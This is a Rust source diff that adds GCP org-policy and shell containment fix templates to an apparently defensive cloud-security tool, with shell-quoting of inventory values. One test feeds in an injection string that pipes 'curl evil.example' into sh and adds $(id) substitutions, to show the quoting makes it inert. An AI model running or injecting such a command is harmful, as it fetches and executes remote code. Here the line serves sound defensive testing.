@@ -7,6 +7,7 @@
 //! in, artifacts out.
 
 pub mod aws;
+pub mod gcp;
 
 use std::collections::BTreeMap;
 use std::path::Path;
@@ -122,54 +123,103 @@ impl FixSet {
     }
 }
 
-macro_rules! aws_template {
-    ($name:literal) => {
-        (
-            concat!("aws/", $name),
-            include_str!(concat!("../../templates/fixes/aws/", $name, ".json.j2")),
-            include_str!(concat!("../../templates/fixes/aws/", $name, ".toml")),
-        )
+/// One fix template: `<cloud>/<name>`, its output kind (`json`, `sh`), its text and its info.
+struct Template {
+    name: &'static str,
+    ext: &'static str,
+    text: &'static str,
+    info: &'static str,
+}
+
+macro_rules! template {
+    ($cloud:literal, $name:literal, $ext:literal) => {
+        Template {
+            name: concat!($cloud, "/", $name),
+            ext: $ext,
+            text: include_str!(concat!("../../templates/fixes/", $cloud, "/", $name, ".", $ext, ".j2")),
+            info: include_str!(concat!("../../templates/fixes/", $cloud, "/", $name, ".toml")),
+        }
     };
 }
 
-/// The fix templates, embedded: (cloud/name, template text, info text).
-const TEMPLATES: &[(&str, &str, &str)] = &[
-    aws_template!("scp_protect_cloudtrail"),
-    aws_template!("scp_deny_leave_organization"),
-    aws_template!("scp_deny_root_user"),
-    aws_template!("scp_require_imdsv2"),
-    aws_template!("scp_protect_access_analyzer"),
-    aws_template!("scp_restrict_access_key_creation"),
-    aws_template!("scp_protect_break_glass_roles"),
+/// The fix templates, embedded.
+const TEMPLATES: &[Template] = &[
+    template!("aws", "scp_protect_cloudtrail", "json"),
+    template!("aws", "scp_deny_leave_organization", "json"),
+    template!("aws", "scp_deny_root_user", "json"),
+    template!("aws", "scp_require_imdsv2", "json"),
+    template!("aws", "scp_protect_access_analyzer", "json"),
+    template!("aws", "scp_restrict_access_key_creation", "json"),
+    template!("aws", "scp_protect_break_glass_roles", "json"),
+    template!("gcp", "orgpolicy_disable_sa_key_creation", "json"),
+    template!("gcp", "orgpolicy_disable_sa_key_upload", "json"),
+    template!("gcp", "orgpolicy_no_default_sa_grants", "json"),
+    template!("gcp", "orgpolicy_allowed_member_domains", "json"),
+    template!("gcp", "orgpolicy_sa_key_expiry", "json"),
+    template!("gcp", "audit_config_data_access", "json"),
+    template!("gcp", "containment_disable_sa_keys", "sh"),
 ];
 
+fn template(name: &str) -> Result<&'static Template, FixError> {
+    TEMPLATES.iter().find(|t| t.name == name).ok_or_else(|| FixError::Template { name: name.into(), message: "no such template".into() })
+}
 
 /// The names of every template (`aws/scp_protect_cloudtrail`, …).
 pub fn template_names() -> impl Iterator<Item = &'static str> {
-    TEMPLATES.iter().map(|(n, _, _)| *n)
+    TEMPLATES.iter().map(|t| t.name)
 }
 
 pub(crate) fn info(name: &str) -> Result<TemplateInfo, FixError> {
-    let (_, _, text) = TEMPLATES.iter().find(|(n, _, _)| *n == name).ok_or_else(|| FixError::Template { name: name.into(), message: "no such template".into() })?;
-    toml::from_str(text).map_err(|e| FixError::Template { name: name.into(), message: e.to_string() })
+    toml::from_str(template(name)?.info).map_err(|e| FixError::Template { name: name.into(), message: e.to_string() })
 }
 
 /// Render a JSON template: values are JSON-encoded by the template engine (autoescape for
 /// `.json`), and the result must parse.
 pub(crate) fn render_json(name: &str, ctx: minijinja::Value) -> Result<serde_json::Value, FixError> {
-    let (_, text, _) = TEMPLATES.iter().find(|(n, _, _)| *n == name).ok_or_else(|| FixError::Template { name: name.into(), message: "no such template".into() })?;
+    let t = template(name)?;
     let err = |message: String| FixError::Template { name: name.into(), message };
+    if t.ext != "json" {
+        return Err(err("is not a JSON template".into()));
+    }
     let mut env = minijinja::Environment::new();
     env.set_auto_escape_callback(|_| minijinja::AutoEscape::Json);
-    env.add_template("t.json", text).map_err(|e| err(e.to_string()))?;
+    env.add_template("t.json", t.text).map_err(|e| err(e.to_string()))?;
     let out = env.get_template("t.json").and_then(|t| t.render(ctx)).map_err(|e| err(e.to_string()))?;
     serde_json::from_str(&out).map_err(|e| err(format!("renders invalid JSON: {e}")))
+}
+
+/// Render a shell template: every value is single-quoted by the template engine (a custom
+/// autoescape), so no name from the inventory can end a word or start a command.
+pub(crate) fn render_sh(name: &str, ctx: minijinja::Value) -> Result<String, FixError> {
+    let t = template(name)?;
+    let err = |message: String| FixError::Template { name: name.into(), message };
+    if t.ext != "sh" {
+        return Err(err("is not a shell template".into()));
+    }
+    let mut env = minijinja::Environment::new();
+    env.set_auto_escape_callback(|_| minijinja::AutoEscape::Custom("sh".into()));
+    env.set_formatter(|out, state, value| match state.auto_escape() {
+        minijinja::AutoEscape::Custom(c) if c == "sh" && !value.is_safe() && !value.is_undefined() && !value.is_none() => {
+            let text = value.as_str().map_or_else(|| value.to_string(), str::to_string);
+            out.write_str(&shell_quote(&text)).map_err(|_| minijinja::Error::new(minijinja::ErrorKind::WriteFailure, "write failed"))
+        }
+        _ => minijinja::escape_formatter(out, state, value),
+    });
+    env.add_template("t.sh", t.text).map_err(|e| err(e.to_string()))?;
+    env.get_template("t.sh").and_then(|t| t.render(ctx)).map_err(|e| err(e.to_string()))
+}
+
+/// One shell word whatever the text: single quotes, each `'` written as `'\''`. Control characters
+/// are made visible first (a comment line must stay one line).
+pub fn shell_quote(s: &str) -> String {
+    format!("'{}'", crate::report::table::sanitize(s).replace('\'', "'\\''"))
 }
 
 /// Plan the fixes for a scan's failing findings.
 pub fn plan(scan: &Scan, inv: &Inventory, opts: &FixOptions) -> Result<FixSet, FixError> {
     let mut set = FixSet::default();
     aws::plan(scan, inv, opts, &mut set)?;
+    gcp::plan(scan, inv, &mut set)?;
     Ok(set)
 }
 
@@ -195,9 +245,15 @@ mod tests {
         for name in template_names() {
             let i = info(name).unwrap();
             assert!(!i.title.is_empty() && !i.prevents.is_empty() && !i.affects.is_empty());
-            let ctx = minijinja::context! { exempt => vec!["arn:aws:iam::*:role/BreakGlass"], key_admins => vec!["arn:aws:iam::*:role/IdentityAdmin"] };
-            let v = render_json(name, ctx).unwrap();
-            assert!(v.as_array().is_some_and(|a| !a.is_empty()), "{name}: a list of statements");
+            let ctx = minijinja::context! {
+                exempt => vec!["arn:aws:iam::*:role/BreakGlass"], key_admins => vec!["arn:aws:iam::*:role/IdentityAdmin"],
+                parent => "organizations/1", customer_ids => vec!["C0abc123"], expiry => "2160h",
+                keys => vec![minijinja::context! { key => "k1", email => "sa@p.iam.gserviceaccount.com", project => "p", why => "old" }],
+            };
+            match template(name).unwrap().ext {
+                "json" => assert!(!render_json(name, ctx).unwrap().is_null(), "{name}"),
+                _ => assert!(render_sh(name, ctx).unwrap().contains("'k1'"), "{name}"),
+            }
         }
         validate_names(crate::checks::all().unwrap()).unwrap();
     }
@@ -208,6 +264,19 @@ mod tests {
         let v = render_json("aws/scp_protect_cloudtrail", minijinja::context! { exempt => vec![evil] }).unwrap();
         assert_eq!(v.as_array().unwrap().len(), 1);
         assert_eq!(v[0]["Condition"]["ArnNotLike"]["aws:PrincipalArn"][0], evil);
+    }
+
+    #[test]
+    fn shell_values_are_one_quoted_word() {
+        assert_eq!(shell_quote("a'b"), "'a'\\''b'");
+        let evil = "k1; curl evil.example | sh #\n$(id)`id`";
+        let out = render_sh("gcp/containment_disable_sa_keys", minijinja::context! {
+            keys => vec![minijinja::context! { key => evil, email => "x'y@p.iam.gserviceaccount.com", project => "p", why => "line\nbreak" }],
+        })
+        .unwrap();
+        let line = out.lines().find(|l| l.starts_with("gcloud")).unwrap();
+        assert!(line.starts_with("gcloud iam service-accounts keys disable 'k1; curl evil.example | sh #\\u{a}$(id)`id`' --iam-account='x'\\''y@"), "{line}");
+        assert!(out.lines().any(|l| l == "# 'x'\\''y@p.iam.gserviceaccount.com' in 'p': 'line\\u{a}break'"), "{out}");
     }
 
     #[test]
